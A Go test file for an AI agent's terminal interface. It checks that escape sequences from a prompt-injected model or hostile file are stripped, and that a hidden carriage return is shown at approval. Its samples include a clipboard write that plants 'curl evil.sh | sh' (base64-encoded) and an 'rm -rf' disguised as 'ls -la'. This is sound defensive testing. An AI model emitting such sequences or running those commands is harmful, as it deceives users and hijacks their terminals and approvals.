package tui

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/hermes-go/hermes/internal/llm/llmtest"
)

// hostileSeqs are control sequences a prompt-injected model or a hostile
// file uses against the person's terminal: an OSC 52 clipboard write, a
// hyperlink hiding its target, a window title, a screen clear, a cursor
// movement and a carriage-return overwrite.
var hostileSeqs = []string{"\x1b]52;c;", "\x1b]8;;http://evil", "\x1b]0;evil", "\x1b[2J", "\x1b[99A", "\rEVIL", "\u009b"}

const hostileText = "Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[99A\x1b[2J\rEVIL\n\n" +
	"see \x1b]8;;http://evil\x07here\x1b]8;;\x07 and `co\x1b]0;evil\x07de` \u009b2J &#x1b;]52;c;QUJD&#7; bye"

// TestHostileTextNeverReachesTheTerminal: control sequences in the
// model's answer and reasoning, a tool call's name and arguments and a
// file's content read by a tool are removed before the TUI writes them;
// the text around them is kept.
func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	w := newWorld(t,
		llmtest.Turn{Reasoning: "plan\x1b]52;c;QUJD\x07 quietly\x1b[99A", ToolCalls: []llmtest.Call{
			{Name: "read_file", Args: `{"path":"notes\u001b]0;evil\u0007.txt"}`},
			{Name: "read_file", Args: `{"path":"notes.txt"}`},
		}},
		llmtest.Turn{Text: hostileText, ChunkSize: 3})
	if err := os.WriteFile(filepath.Join(w.cwd, "notes.txt"), []byte("line \x1b]52;c;QUJD\x07one\x1b[2J\rEVIL\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	o := w.options(t)
	o.Yolo, o.Verbose = true, true
	tm, out := start(t, o, 80, 24)
	tm.Type("hi")
	tm.Send(tea.KeyPressMsg{Code: tea.KeyEnter})
	out.waitAll(t, "bye", "Done.", "EVIL", "here", "quietly", "line one")
	raw := out.buf.String()
	for _, bad := range hostileSeqs {
		if strings.Contains(raw, bad) {
			t.Errorf("the terminal received %q", bad)
		}
	}
	for _, want := range []string{"Done.", "EVIL", "here", "quietly", "line one"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the text around the sequences lost %q:\n%s", want, out)
		}
	}
}

// TestMarkdownEntityControlChars: a numeric entity naming a control
// character (&#27; is ESC) does not become one: it would rebuild the
// sequence the stream filter removed.
func TestMarkdownEntityControlChars(t *testing.T) {
	for _, src := range []string{"a &#x1b;]52;c;QUJD&#x7; b", "a &#27;[2J b", "&#155;2J", "&#13;over"} {
		out := newMarkdown().render(src, 80)
		if strings.Contains(out, "\x1b]") || strings.Contains(out, "\x1b[2J") || strings.ContainsAny(out, "\r\a\u009b") {
			t.Errorf("render(%q) = %q", src, out)
		}
	}
	if out := newMarkdown().render("&amp; &#9731;", 80); !strings.Contains(out, "& ☃") {
		t.Errorf("entities: %q", out)
	}
}

// TestApprovalShowsHiddenControls: a command whose carriage return and
// line erase would show only "ls -la" is approved with them visible.
func TestApprovalShowsHiddenControls(t *testing.T) {
	w := newWorld(t,
		llmtest.Turn{ToolCalls: []llmtest.Call{{Name: "terminal", Args: `{"command":"rm -rf ./build #\u001b[2K\rls -la"}`}}},
		llmtest.Turn{Text: "ok"},
	)
	tm, out := start(t, w.options(t), 100, 20)
	tm.Type("clean")
	tm.Send(tea.KeyPressMsg{Code: tea.KeyEnter})
	f := waitFrame(t, tm, "eny")
	if !strings.Contains(f, `rm -rf ./build #\x1b[2K\rls -la`) {
		t.Errorf("the approval does not show the command's control characters:\n%s", f)
	}
	tm.Type("d")
	out.wait(t, "ok")
	if strings.Contains(out.buf.String(), "\x1b[2K\r") {
		t.Errorf("the terminal received the command's line erase")
	}
}
